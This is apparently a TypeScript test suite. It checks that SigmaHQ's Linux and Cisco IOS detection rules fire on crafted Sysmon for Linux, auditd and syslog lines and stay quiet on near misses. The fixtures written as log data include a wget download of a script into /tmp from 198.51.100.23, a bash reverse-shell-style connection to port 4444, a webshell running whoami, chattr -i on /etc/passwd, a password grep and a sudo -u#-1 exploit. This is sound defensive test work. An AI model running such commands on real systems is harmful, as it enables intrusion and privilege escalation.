import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseLogLine } from '@soc/parsing';
import { buildImportReport, formatRuleError } from '@soc/sigma';
import { resolveField } from '../src/field-mapping';
import { readRuleFiles } from '../src/rule-files';
import { ecsEvent } from '../src/testing/rules';

/**
 * SigmaHQ's Linux rules, and below its Cisco IOS ones.
 *
 * SigmaHQ's Linux rules (../shared/data/sigmahq: Sysmon for Linux's process_creation, file_event and
 * network_connection; auditd; the builtin syslog services) as the correlator loads them: every one
 * is accepted, and a rule fires on the event it was written for after that event went through the
 * collector's parser (libs/parsing parseLogLine), and not on its near miss.
 *
 * ../shared/data holds no Sysmon for Linux line and no audit record these rules select (its audit
 * lines are fail2ban's USER_* authentication records), so the lines below are our own, written in
 * the exact shapes the producers write: Sysmon for Linux's XML as its outputxml.cpp serialises it
 * (see libs/parsing sysmon-linux.spec.ts), audit records as the kernel and auditd write them (RAW
 * and ENRICHED log_format: the translations after the 0x1d separator), syslog as rsyslog forwards it.
 */
const sigmaHqRoot = join(__dirname, '..', '..', '..', '..', 'shared', 'data', 'sigmahq');
const present = existsSync(sigmaHqRoot);

/** Rule files whose log source is `product: linux` (a quick text test; the report reads them properly). */
function linuxRuleFiles(): { name: string; text: string }[] {
  return ['rules', 'rules-emerging-threats', 'rules-threat-hunting'].flatMap((folder) =>
    readRuleFiles(join(sigmaHqRoot, folder))
      .filter((file) => /^\s+product: linux\s*$/m.test(file.text))
      .map((file) => ({ name: `${folder}/${file.name}`, text: file.text })),
  );
}

const sysmonSystem = (eventId: number, time: string): string =>
  `<System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${eventId}</EventID><Version>5</Version>` +
  `<Level>4</Level><Task>${eventId}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="${time}"/>` +
  `<EventRecordID>7001</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel>` +
  `<Computer>srv-web01</Computer><Security UserId="0"/></System>`;

/** A Sysmon for Linux syslog line: the fields in its manifest's order, the values given (already XML-escaped). */
function sysmonLine(eventId: 1 | 3 | 11, values: Record<string, string>): string {
  const names: Record<number, string[]> = {
    1: 'RuleName UtcTime ProcessGuid ProcessId Image FileVersion Description Product Company OriginalFileName CommandLine CurrentDirectory User LogonGuid LogonId TerminalSessionId IntegrityLevel Hashes ParentProcessGuid ParentProcessId ParentImage ParentCommandLine ParentUser'.split(
      ' ',
    ),
    3: 'RuleName UtcTime ProcessGuid ProcessId Image User Protocol Initiated SourceIsIpv6 SourceIp SourceHostname SourcePort SourcePortName DestinationIsIpv6 DestinationIp DestinationHostname DestinationPort DestinationPortName'.split(
      ' ',
    ),
    11: 'RuleName UtcTime ProcessGuid ProcessId Image TargetFilename CreationUtcTime User'.split(' '),
  };
  const defaults: Record<string, string> = {
    UtcTime: '2026-11-30 08:14:02.512',
    ProcessGuid: '{5a1d3f0e-a2ba-674a-c8e1-9d3c1a560000}',
    ProcessId: '28904',
    User: 'root',
    ParentProcessId: '28903',
  };
  const data = names[eventId].map((name) => `<Data Name="${name}">${values[name] ?? defaults[name] ?? '-'}</Data>`).join('');
  return `<14>Nov 30 08:14:02 srv-web01 sysmon: <Event>${sysmonSystem(eventId, '2026-11-30T08:14:02.514877000Z')}<EventData>${data}</EventData></Event>`;
}

const gs = '\u001d';
const syscallRecord = (extra: string, enriched: string): string =>
  `type=SYSCALL msg=audit(1764490442.120:8812): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c2a0b6d0 a1=55d0c2a0b730 a2=55d0c2a0b748 a3=8 items=2 ppid=1022 pid=28904 auid=4294967295 ${extra}${enriched}`;
const wwwDataExecve = syscallRecord(
  'uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" subj=unconfined key="detect_execve_www"',
  `${gs}ARCH=x86_64 SYSCALL=execve AUID="unset" UID="www-data" GID="www-data" EUID="www-data" SUID="www-data" FSUID="www-data" EGID="www-data" SGID="www-data" FSGID="www-data"`,
);

interface Case {
  rule: string;
  line: string;
  fires: boolean;
}

const cases: Record<string, Case> = {
  'webshell child process (Sysmon for Linux 1)': {
    rule: '818f7b24-0fba-4c49-a073-8b755573b9c7',
    line: sysmonLine(1, {
      Image: '/usr/bin/whoami',
      CommandLine: 'whoami',
      ParentImage: '/usr/sbin/apache2',
      ParentCommandLine: '/usr/sbin/apache2 -k start',
      User: 'www-data',
    }),
    fires: true,
  },
  'whoami from a shell (near miss)': {
    rule: '818f7b24-0fba-4c49-a073-8b755573b9c7',
    line: sysmonLine(1, { Image: '/usr/bin/whoami', CommandLine: 'whoami', ParentImage: '/usr/bin/bash', ParentCommandLine: '-bash' }),
    fires: false,
  },
  'wget -O into /tmp (Sysmon for Linux 1, case-sensitive re)': {
    rule: 'cf610c15-ed71-46e1-bdf8-2bd1a99de6c4',
    line: sysmonLine(1, { Image: '/usr/bin/wget', CommandLine: 'wget http://198.51.100.23/a.sh -O /tmp/a.sh &amp;&amp; true' }),
    fires: true,
  },
  'wget -o (a log file, not the output) into /tmp': {
    rule: 'cf610c15-ed71-46e1-bdf8-2bd1a99de6c4',
    line: sysmonLine(1, { Image: '/usr/bin/wget', CommandLine: 'wget http://198.51.100.23/a.sh -o /tmp/wget.log' }),
    fires: false,
  },
  'sudoers.d file written (Sysmon for Linux 11)': {
    rule: 'ddb26b76-4447-4807-871f-1b035b2bfa5d',
    line: sysmonLine(11, { Image: '/usr/bin/tee', TargetFilename: '/etc/sudoers.d/90-www' }),
    fires: true,
  },
  "dpkg's own sudoers.d README (the rule's filter)": {
    rule: 'ddb26b76-4447-4807-871f-1b035b2bfa5d',
    line: sysmonLine(11, { Image: '/usr/bin/dpkg', TargetFilename: '/etc/sudoers.d/README.dpkg-new' }),
    fires: false,
  },
  'bash connecting out (Sysmon for Linux 3)': {
    rule: '83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871',
    line: sysmonLine(3, {
      Image: '/usr/bin/bash',
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: '10.20.30.40',
      SourcePort: '51544',
      DestinationIp: '198.51.100.23',
      DestinationPort: '4444',
    }),
    fires: true,
  },
  'bash connecting to localhost (filtered)': {
    rule: '83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871',
    line: sysmonLine(3, {
      Image: '/usr/bin/bash',
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: '127.0.0.1',
      SourcePort: '51544',
      DestinationIp: '127.0.0.1',
      DestinationPort: '4444',
    }),
    fires: false,
  },
  'chattr -i (auditd EXECVE, from the file)': {
    rule: 'a5b977d6-8a81-4475-91b9-49dbfcd941f7',
    line: 'type=EXECVE msg=audit(1764490442.120:8812): argc=3 a0="chattr" a1="-i" a2="/etc/passwd"',
    fires: true,
  },
  'chattr -i (auditd EXECVE, through audisp-syslog)': {
    rule: 'a5b977d6-8a81-4475-91b9-49dbfcd941f7',
    line: '<14>Nov 30 08:14:02 srv-web01 audisp-syslog: type=EXECVE msg=audit(1764490442.120:8812): argc=3 a0="chattr" a1="-i" a2="/etc/passwd"',
    fires: true,
  },
  "chattr -i (the kernel's own audit line, record type by number)": {
    rule: 'a5b977d6-8a81-4475-91b9-49dbfcd941f7',
    line: '<4>Nov 30 08:14:02 srv-web01 kernel: audit: type=1309 audit(1764490442.120:8812): argc=3 a0="chattr" a1="-i" a2="/etc/passwd"',
    fires: true,
  },
  'chattr +i (near miss)': {
    rule: 'a5b977d6-8a81-4475-91b9-49dbfcd941f7',
    line: 'type=EXECVE msg=audit(1764490442.120:8812): argc=3 a0="chattr" a1="+a" a2="/etc/passwd"',
    fires: false,
  },
  'grep for password (auditd EXECVE, keywords on the record)': {
    rule: 'df3fcaea-2715-4214-99c5-0056ea59eb35',
    line: 'type=EXECVE msg=audit(1764490442.120:8812): argc=4 a0="grep" a1="-ri" a2="password" a3="/var/www"',
    fires: true,
  },
  'a web-server account executing (ENRICHED SYSCALL, SYSCALL=execve euid=33)': {
    rule: 'c0d3734d-330f-4a03-aae2-65dacc6a8222',
    line: wwwDataExecve,
    fires: true,
  },
  'the same record in RAW log_format (no SYSCALL name to read)': {
    rule: 'c0d3734d-330f-4a03-aae2-65dacc6a8222',
    line: wwwDataExecve.slice(0, wwwDataExecve.indexOf(gs)),
    fires: false,
  },
  'a key the rule names (auditd SYSCALL key)': {
    rule: 'f7158a64-6204-4d6d-868a-6e6378b467e0',
    line: syscallRecord(
      'uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="nc" exe="/usr/bin/nc.openbsd" subj=unconfined key="susp_activity"',
      '',
    ),
    fires: true,
  },
  'systemd unit created (auditd PATH nametype=CREATE)': {
    rule: '1bac86ba-41aa-4f62-9d6b-405eac99b485',
    line: 'type=PATH msg=audit(1764490442.120:8813): item=1 name="/etc/systemd/system/updater.service" inode=1318 dev=fd:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0',
    fires: true,
  },
  'systemd unit read (nametype=NORMAL)': {
    rule: '1bac86ba-41aa-4f62-9d6b-405eac99b485',
    line: 'type=PATH msg=audit(1764490442.120:8813): item=0 name="/etc/systemd/system/updater.service" inode=1318 dev=fd:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0',
    fires: false,
  },
  'firewalld stopped (SERVICE_STOP from systemd, unit inside msg)': {
    rule: '53059bc0-1472-438b-956a-7508a94a91f0',
    line: 'type=SERVICE_STOP msg=audit(1764490442.120:8814): pid=1 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:init_t:s0 msg=\'unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success\'',
    fires: true,
  },
  'a Trojan found by clamd': {
    rule: '36aa86ca-fd9d-4456-814e-d3b1b8e1e0bb',
    line: '<30>Nov 30 08:14:02 srv-web01 clamd[1123]: /var/www/html/uploads/x.php: Php.Trojan.Webshell-1 FOUND',
    fires: true,
  },
  'the same words from another program (not linux/clamav)': {
    rule: '36aa86ca-fd9d-4456-814e-d3b1b8e1e0bb',
    line: '<30>Nov 30 08:14:02 srv-web01 myscanner[1123]: /var/www/html/uploads/x.php: Php.Trojan.Webshell-1 FOUND',
    fires: false,
  },
  'a second user joining a guacd session': {
    rule: '1edd77db-0669-4fef-9598-165bda82826d',
    line: '<30>Nov 30 08:14:02 srv-gw01 guacd[2211]: User "bob" joined connection "$4e5f1a2b-6c7d-4e8f-9a0b-1c2d3e4f5a6b" (2 users now present)',
    fires: true,
  },
  'sudo -u#-1 (CVE-2019-14287, USER=#-1)': {
    rule: '7fcc54cb-f27d-4684-84b7-436af096f858',
    line: '<85>Nov 30 08:14:02 srv-web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/usr/bin/id',
    fires: true,
  },
  'sudo as root (near miss)': {
    rule: '7fcc54cb-f27d-4684-84b7-436af096f858',
    line: '<85>Nov 30 08:14:02 srv-web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id',
    fires: false,
  },
};

(present ? describe : describe.skip)("SigmaHQ's Linux rules", () => {
  const report = buildImportReport(present ? linuxRuleFiles() : []);

  it('accepts every Linux rule document (Sysmon for Linux, auditd, builtin)', () => {
    // The pinned SigmaHQ commit's documents with `product: linux` (SOURCE.md): 167 Sysmon for Linux,
    // 54 auditd, 27 builtin (auth, sshd, sudo, cron, vsftpd, syslog, clamav, guacamole, keywords).
    expect(report.documents).toBe(248);
    expect(report.rejected.flatMap((rule) => rule.reasons.map(formatRuleError))).toEqual([]);
  });

  it("fires on none of the real Linux lines under ../shared/data (Elastic's auth.log, fail2ban's logs: sshd, PAM, sudo, audit USER_* records)", () => {
    const data = join(sigmaHqRoot, '..');
    const fail2ban = join(data, 'fail2ban-test-logs', 'logs');
    const files = [join(data, 'elastic-examples', 'ssh', 'auth.log'), ...readdirSync(fail2ban).map((name) => join(fail2ban, name))];
    const fired: string[] = [];
    let parsed = 0;
    for (const file of files) {
      for (const line of readFileSync(file, 'utf8').split('\n')) {
        if (line.length === 0 || line.startsWith('#')) continue;
        const result = parseLogLine(line, { now: new Date('2026-12-01T00:00:00Z') });
        if (!result.ok) continue;
        parsed++;
        for (const id of report.ruleSet.matchingRules(ecsEvent(result.event as Record<string, unknown>))) fired.push(`${id} on ${line}`);
      }
    }
    // Measured when this was written: 7,567 lines parsed (3,236 linux.sshd, 3,469 linux.pam, 523
    // linux.auth, 186 linux.sudo, 11 linux.auditd, and the web servers' lines of the fail2ban logs).
    expect(parsed).toBeGreaterThan(7_500);
    expect(fired).toEqual([]);
  });

  it.each(Object.entries(cases))('%s', (_name, { rule, line, fires }) => {
    const parsed = parseLogLine(line, { now: new Date('2026-12-01T00:00:00Z') });
    if (!parsed.ok) throw new Error(parsed.reason);
    expect(report.ruleSet.rules.some((r) => r.id === rule)).toBe(true);
    expect(report.ruleSet.matchingRules(ecsEvent(parsed.event as Record<string, unknown>)).includes(rule)).toBe(fires);
  });
});

/** SigmaHQ's Cisco rules (`product: cisco`), read from Cisco IOS syslog. */
function ciscoRuleFiles(): { name: string; text: string }[] {
  return ['rules', 'rules-emerging-threats', 'rules-threat-hunting'].flatMap((folder) =>
    readRuleFiles(join(sigmaHqRoot, folder))
      .filter((file) => /^\s+product: cisco\s*$/m.test(file.text))
      .map((file) => ({ name: `${folder}/${file.name}`, text: file.text })),
  );
}

(present ? describe : describe.skip)("SigmaHQ's Cisco IOS rules", () => {
  const report = buildImportReport(present ? ciscoRuleFiles() : []);
  const matching = (line: string): string[] => {
    const parsed = parseLogLine(line, { now: new Date('2026-03-01T00:00:00Z') });
    if (!parsed.ok) throw new Error(parsed.reason);
    return report.ruleSet.matchingRules(ecsEvent(parsed.event as Record<string, unknown>));
  };

  it('accepts the rules read from IOS syslog (aaa, syslog, bgp, ldp) and only rejects Duo, a cloud API', () => {
    expect(report.accepted).toHaveLength(16);
    expect(report.rejected.map((rule) => rule.file)).toEqual(['rules/identity/cisco_duo/cisco_duo_mfa_bypass_via_bypass_code.yml']);
  });

  it("matches SigmaHQ's own regression sample for cisco/aaa with its rule, once", () => {
    // The sample is a syslog server's file line: the relay's address, then what the device sent
    // without its PRI. Sent to the collector, it carries the PRI of its severity on IOS's default
    // facility local7 (<189>).
    const sample = join(sigmaHqRoot, 'regression_data', 'rules', 'cisco', 'aaa', 'cisco_cli_dot1x_disabled', 'ef0ff092-a24a-4fbc-beea-06c08d53e085.raw');
    const line = readFileSync(sample, 'utf8').trim();
    expect(line).toMatch(/^172\.16\.5\.10 6705: /);
    const fired = matching(`<189>${line.slice('172.16.5.10 '.length)}`);
    expect(fired).toEqual(['ef0ff092-a24a-4fbc-beea-06c08d53e085']);
  });

  it('reads a logged command only as aaa, and the codes the bgp rule names', () => {
    const idOf = (title: string): string | undefined => report.ruleSet.rules.find((rule) => rule.title === title)?.id;
    expect(matching('<189>6710: Feb 17 13:45:00.000: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:no logging buffered')).toEqual([
      idOf('Cisco Disabling Logging'),
    ]);
    // The same words in another message are not a command someone entered.
    expect(matching('<189>6711: Feb 17 13:46:00.000: %SYS-5-CONFIG_I: Configured from console by admin on vty0 (no logging buffered)')).toEqual([]);
    expect(matching('<187>6713: Feb 17 13:47:00.000: %IP-TCP-3-BADAUTH: Invalid MD5 digest from 192.0.2.1:179 to 192.0.2.2:23456')).toEqual([
      idOf('Cisco BGP Authentication Failures'),
    ]);
    expect(matching('<187>6714: Feb 17 13:47:00.000: %IP-TCP-3-BADAUTH: Invalid MD5 digest from 192.0.2.1:646 to 192.0.2.2:23456')).toEqual([]);
  });
});

describe('Linux field mappings', () => {
  it('reads Sysmon for Linux fields raw from winlog.event_data, and refuses a name it never writes', () => {
    expect(resolveField('linux_sysmon', 'CommandLine')).toEqual({ paths: ['winlog.event_data.CommandLine'] });
    expect(resolveField('linux_sysmon', 'EventID')).toEqual({ paths: ['event.code'] });
    expect(resolveField('linux_sysmon', 'ImageLoaded')).toEqual({
      error: "field 'ImageLoaded' has no mapping for linux_sysmon log sources (see libs/sigma/FIELD-MAPPING.md)",
    });
  });

  it('reads audit fields from auditd.log under their own names, the record type from record_type', () => {
    expect(resolveField('linux_auditd', 'type')).toEqual({ paths: ['auditd.log.record_type'] });
    expect(resolveField('linux_auditd', 'a1')).toEqual({ paths: ['auditd.log.a1'] });
    expect(resolveField('linux_auditd', 'SYSCALL')).toEqual({ paths: ['auditd.log.SYSCALL'] });
    expect(resolveField('linux_auditd', 'msg')).toEqual({ error: "field 'msg' has no mapping for linux_auditd log sources (see libs/sigma/FIELD-MAPPING.md)" });
  });

  it("reads sudo's USER= and a proxy's destination address", () => {
    expect(resolveField('linux', 'USER')).toEqual({ paths: ['user.effective.name'] });
    expect(resolveField('web', 'dst_ip')).toEqual({ paths: ['destination.ip'] });
  });
});
